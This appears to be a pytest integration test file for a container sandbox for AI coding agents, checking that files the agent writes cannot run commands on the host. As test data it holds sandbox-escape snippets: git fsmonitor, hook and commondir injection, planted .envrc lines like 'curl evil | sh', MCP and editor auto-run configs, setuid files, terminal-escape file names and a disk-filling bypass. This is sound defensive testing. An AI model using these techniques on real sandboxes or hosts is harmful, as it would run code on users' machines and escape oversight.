"""Nothing the sandbox writes runs on the host unasked.

Each attack is a shell snippet the agent runs inside; the host then does what
a user does (git status, git commit, cd with a git-aware prompt). The control
runs the same snippet in a plain engine container with the project mounted,
as a wrapper script would, and the host's action runs the planted command.
"""

from __future__ import annotations

import json
import os
import re
import resource
import signal
import subprocess
from pathlib import Path

import pytest

from tests.integration.support import Built, Engine, Hutch, as_user, wait_for

pytestmark = [pytest.mark.integration, pytest.mark.engines]


def host(engine: Engine, project: Path, *argv: str) -> subprocess.CompletedProcess[str]:
    """A command on the host as the project's user, as they would type it."""
    env = {
        "PATH": "/usr/local/bin:/usr/bin:/bin",
        "HOME": str(project.parent),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_CONFIG_GLOBAL": "/dev/null",
        "GIT_AUTHOR_NAME": "u",
        "GIT_AUTHOR_EMAIL": "u@e",
        "GIT_COMMITTER_NAME": "u",
        "GIT_COMMITTER_EMAIL": "u@e",
    }
    full = list(argv) if engine.user is None else as_user(engine.user, env, argv)
    return subprocess.run(full, cwd=project, env=env, capture_output=True, text=True, timeout=60, check=False)


def plain_run(engine: Engine, built: Built, project: Path, script: str) -> subprocess.CompletedProcess[str]:
    """The same sandbox as a wrapper script makes it: the project bind-mounted, no hutch."""
    return engine.cli("run", "--rm", "--network", "none", *engine_flags(engine),
                      "--user", f"{engine.uid}:{engine.gid}",
                      "--mount", f"type=bind,source={project},target={project}", "--workdir", str(project),
                      "--entrypoint", "sh", built.tag, "-c", script, timeout=120)  # fmt: skip


def engine_flags(engine: Engine) -> list[str]:
    """What a plain run needs on this engine flavour to start at all, as hutch passes it."""
    flags = ["--userns", "keep-id"] if engine.rootless else []
    if engine.podman:
        # Rootful Podman would raise these beyond what root may have here.
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        flags += ["--ulimit", f"nofile={soft}:{hard}", "--ulimit", "nproc=4096:4096"]
    return flags


def sh(hutch: Hutch, project: Path, script: str) -> subprocess.CompletedProcess[str]:
    return hutch.run("exec", "--network", "none", "--", "sh", "-c", script, cwd=project)


def session_of(result: subprocess.CompletedProcess[str]) -> str:
    found = re.search(r"session ([0-9a-f]{8})", result.stderr)
    assert found, result.stderr
    return found.group(1)


def repo(engine: Engine, project: Path) -> None:
    host(engine, project, "git", "init", "-q", "-b", "main")
    (project / "a.txt").write_text("a\n")
    host(engine, project, "git", "add", "a.txt")
    assert host(engine, project, "git", "commit", "-qm", "first").returncode == 0


FSMONITOR = "printf '[core]\\n\\tfsmonitor = \"touch {mark}; false\"\\n'"
# Each: (what the agent runs inside, what the user runs on the host afterwards, where).
ATTACKS = {
    "config": (FSMONITOR + " >> .git/config", "status", "."),
    "commondir": (
        "mkdir -p evil/objects evil/refs && cp .git/HEAD evil/ && "
        + FSMONITOR
        + " > evil/config && echo ../evil > .git/commondir",
        "status",
        ".",
    ),
    "hook": (
        "printf '#!/bin/sh\\ntouch {mark}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        "commit",
        ".",
    ),
    "hooks-path": (
        "mkdir -p h && printf '#!/bin/sh\\ntouch {mark}\\n' > h/pre-commit && chmod +x h/pre-commit"
        " && printf '[core]\\n\\thooksPath = h\\n' >> .git/config",
        "commit",
        ".",
    ),
    "gitdir-file": (
        "mkdir -p sub && cp -r .git sub/evilgit && "
        + FSMONITOR
        + " >> sub/evilgit/config && echo 'gitdir: evilgit' > sub/.git",
        "status",
        "sub",
    ),
    "nested-repo": (
        "mkdir -p sub2 && git -C sub2 init -q && " + FSMONITOR + " >> sub2/.git/config",
        "status",
        "sub2",
    ),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_git_indirection_runs_nothing_on_the_host(
    engine: Engine, built: Built, hutch: Hutch, project: Path, attack: str
) -> None:
    script, action, where = ATTACKS[attack]
    mark = project.parent / f"pwned-{attack}"

    def host_action(proj: Path) -> None:
        cwd = proj / where
        if action == "status":
            host(engine, cwd, "git", "status")
        else:
            host(engine, cwd, "git", "commit", "-q", "--allow-empty", "-m", "host")

    # Control: a plain bind mount of the project lets the planted command run.
    control_project = project.parent / "control"
    control_project.mkdir()
    hutch.own(control_project)
    repo(engine, control_project)
    done = plain_run(engine, built, control_project, script.format(mark=mark))
    assert done.returncode == 0, done.stderr
    host_action(control_project)
    assert mark.exists(), f"control: {attack} did not run a command on the host"
    mark.unlink()

    repo(engine, project)
    result = sh(hutch, project, script.format(mark=mark))
    assert result.returncode == 0, result.stderr
    host_action(project)
    assert not mark.exists(), f"{attack}: the host ran a command the sandbox planted"
    assert "hutch accept" in result.stderr or ".git/" in result.stderr, result.stderr


def test_agent_commits_arrive_on_the_hosts_branch(engine: Engine, hutch: Hutch, project: Path) -> None:
    repo(engine, project)
    script = (
        "echo b > b.txt && git add b.txt && git -c user.name=a -c user.email=a@e commit -qm agent "
        "&& git checkout -q -b feature && echo c > c.txt && git add c.txt "
        "&& git -c user.name=a -c user.email=a@e commit -qm feature && git checkout -q main "
        "&& git rev-parse main feature"
    )
    result = sh(hutch, project, script)
    assert result.returncode == 0, result.stderr
    inside_main, inside_feature = result.stdout.split()
    assert host(engine, project, "git", "rev-parse", "main").stdout.strip() == inside_main
    assert host(engine, project, "git", "rev-parse", "feature").stdout.strip() == inside_feature
    assert host(engine, project, "git", "log", "-1", "--format=%s", "main").stdout.strip() == "agent"
    assert host(engine, project, "git", "fsck", "--strict").returncode == 0
    assert host(engine, project, "git", "status", "--porcelain").stdout == ""


def test_a_project_on_another_file_system_than_hutchs_state_starts(
    engine: Engine, hutch: Hutch, project: Path
) -> None:
    # Over two file systems an overlay makes up its root's inode number: the
    # start gate must still recognise the .git layer (by its mark), and the
    # agent's commits still arrive.
    other = hutch.root / "other-fs"
    other.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", f"size=64m,mode=0755,uid={engine.uid},gid={engine.gid}",
                    "tmpfs", str(other)], check=True)  # fmt: skip
    try:
        assert os.stat(other).st_dev != os.stat(hutch.state).st_dev
        elsewhere = other / "proj"
        elsewhere.mkdir()
        hutch.own(elsewhere)
        repo(engine, elsewhere)
        commit = "git -c user.name=a -c user.email=a@e commit -qm agent"
        result = sh(hutch, elsewhere, f"echo b > b.txt && git add b.txt && {commit} && git rev-parse HEAD")
        assert result.returncode == 0, result.stderr
        assert host(engine, elsewhere, "git", "rev-parse", "main").stdout.strip() == result.stdout.strip()
    finally:
        subprocess.run(["umount", "-l", str(other)], check=False)


def test_git_config_changes_wait_for_accept(engine: Engine, hutch: Hutch, project: Path) -> None:
    repo(engine, project)
    result = sh(hutch, project, "git config user.email agent@example.org && git config user.email")
    assert result.stdout.strip() == "agent@example.org"  # inside, git works as usual
    assert "agent@example.org" not in (project / ".git" / "config").read_text()
    session = session_of(result)
    accepted = hutch.run("accept", session, ".git/config", cwd=project)
    assert accepted.returncode == 0, accepted.stderr
    assert "agent@example.org" in (project / ".git" / "config").read_text()


SURFACE = {
    ".envrc": "echo 'curl evil | sh' > .envrc",
    ".mcp.json": 'echo \'{"mcpServers": {"x": {"command": "evil"}}}\' > .mcp.json',
    ".vscode/tasks.json": 'mkdir -p .vscode && echo \'{"runOn": "folderOpen"}\' > .vscode/tasks.json',
    ".claude/settings.local.json": "mkdir -p .claude && echo '{\"hooks\": {}}' > .claude/settings.local.json",
    ".gemini/settings.json": "mkdir -p .gemini && echo '{}' > .gemini/settings.json",
    "deep/.envrc": "mkdir -p deep && echo evil > deep/.envrc",
    # sub/.envrc exists and is read-only inside: renaming its parent sidesteps that.
    "sub/.envrc": "mv sub sub-old && mkdir sub && echo evil > sub/.envrc",
    # Named like a secret (.npmrc is masked by default), or shaped like one:
    # still host-executed.
    "pkg/.npmrc": "mkdir -p pkg && echo 'node-options=--require ./evil.js' > pkg/.npmrc",
    "lib/.git/hooks/post-checkout": (
        "mkdir -p lib/.git/hooks && printf '#!/bin/sh\\n# -----BEGIN PRIVATE KEY-----\\ncurl evil\\n' "
        "> lib/.git/hooks/post-checkout"
    ),
}


@pytest.mark.parametrize("path", sorted(SURFACE))
def test_new_host_executed_files_need_a_yes(
    engine: Engine, built: Built, hutch: Hutch, project: Path, path: str
) -> None:
    for root in (project, project.parent / "control"):
        (root / "sub").mkdir(parents=True)
        (root / "sub" / ".envrc").write_text("mine\n")
        hutch.own(root)
    control = project.parent / "control"
    assert plain_run(engine, built, control, SURFACE[path]).returncode == 0
    assert (control / path).exists()

    result = sh(hutch, project, SURFACE[path])
    assert result.returncode == 0, result.stderr
    if path == "sub/.envrc":
        assert (project / path).read_text() == "mine\n"  # the host's version is back
    else:
        assert not (project / path).exists()
    assert f"hutch accept {session_of(result)}" in result.stderr
    accepted = hutch.run("accept", session_of(result), path, cwd=project)
    assert accepted.returncode == 0, accepted.stderr
    assert (project / path).read_text() == (control / path).read_text()


def test_surface_report_mode_is_the_users_choice(hutch: Hutch, project: Path) -> None:
    (hutch.config / "hutch").mkdir(parents=True, exist_ok=True)
    (hutch.config / "hutch" / "config.toml").write_text('[sandbox]\nsurface = "report"\n')
    hutch.own(hutch.config)
    result = sh(hutch, project, "echo evil > .envrc")
    assert ".envrc" in result.stderr
    assert (project / ".envrc").read_text() == "evil\n"


def test_setuid_bits_cannot_be_set(engine: Engine, built: Built, hutch: Hutch, project: Path) -> None:
    script = (
        "touch f && chmod 4755 f; cp /bin/true g && chmod g+s g; "
        "python3 -c \"import os; os.close(os.open('h', os.O_CREAT | os.O_WRONLY, 0o4755))\" 2>/dev/null; "
        "stat -c '%n %a' f g h 2>&1; true"
    )
    control = plain_run(engine, built, project, script)
    assert "f 4755" in control.stdout and "g 2755" in control.stdout and "h 4755" in control.stdout, (
        control.stdout
    )
    for name in "fgh":
        (project / name).unlink(missing_ok=True)
    assert sh(hutch, project, script).returncode == 0
    for name in "fgh":
        path = project / name
        assert not path.exists() or not path.stat().st_mode & 0o6000, name


def test_a_killed_sessions_changes_are_reported_at_the_next_start(
    engine: Engine, hutch: Hutch, project: Path
) -> None:
    repo(engine, project)
    running = hutch.popen(
        "exec",
        "--network",
        "none",
        "--",
        "sh",
        "-c",
        "echo evil > .envrc; echo '[core]' >> .git/config; touch started; sleep 300",
        cwd=project,
    )
    try:
        wait_for(lambda: (project / "started").exists(), 60, "the session to start")
        running.send_signal(signal.SIGKILL)
        running.wait(timeout=30)
    finally:
        running.stop()
    assert (project / ".envrc").exists()  # written while the session ran
    nxt = sh(hutch, project, "true")
    assert nxt.returncode == 0, nxt.stderr
    assert "ended without hutch" in nxt.stderr and ".envrc" in nxt.stderr
    assert not (project / ".envrc").exists()
    assert "[core]\n[core]" not in (project / ".git" / "config").read_text()


def test_names_with_control_characters_are_escaped(hutch: Hutch, project: Path) -> None:
    result = sh(hutch, project, "mkdir -p .vscode && touch \"$(printf '.vscode/a\\033]0;pwned\\007b')\"")
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert "\\x1b]0;pwned\\x07b" in result.stderr


def test_audit_shows_what_was_held(hutch: Hutch, project: Path) -> None:
    result = sh(hutch, project, "echo x > .envrc")
    record = json.loads(hutch.run("audit", "--json", session_of(result), cwd=project).stdout)
    assert any(c["path"] == ".envrc" and c["kind"] == "surface" for c in record["changes"])
    assert [h["path"] for h in record["held"]] == [".envrc"]


def test_nested_repositories_are_reported_prominently(hutch: Hutch, project: Path) -> None:
    result = sh(hutch, project, "mkdir -p vendor/lib && git -C vendor/lib init -q")
    assert "vendor/lib/.git" in result.stderr and "repo" in result.stderr


def test_a_full_state_dir_keeps_nothing_from_the_host_and_the_status(
    engine: Engine, hutch: Hutch, project: Path
) -> None:
    # The .git layer lives in hutch's state dir: an agent can fill that file
    # system by writing into .git, then plant a host-executed file that hutch
    # has no room left to set aside. It must leave the project all the same.
    repo(engine, project)
    saved = hutch.root / "state-copy"
    subprocess.run(["cp", "-a", f"{hutch.state}/.", str(saved)], check=True)
    subprocess.run(["mount", "-t", "tmpfs", "-o", f"size=4m,mode=0700,uid={engine.uid},gid={engine.gid}",
                    "tmpfs", str(hutch.state)], check=True)  # fmt: skip
    try:
        subprocess.run(["cp", "-a", f"{saved}/.", str(hutch.state)], check=True)
        script = "head -c 16000000 /dev/zero > .git/fill; echo 'curl evil | sh' > .envrc; exit 3"
        result = sh(hutch, project, script)
        assert result.returncode == 3, result.stderr
        assert "Traceback" not in result.stderr
        assert "could not be kept" in result.stderr, result.stderr  # the full-disk path was taken
        assert not (project / ".envrc").exists()
        assert not (project / ".git" / "fill").exists()
    finally:
        subprocess.run(["umount", "-l", str(hutch.state)], check=False)
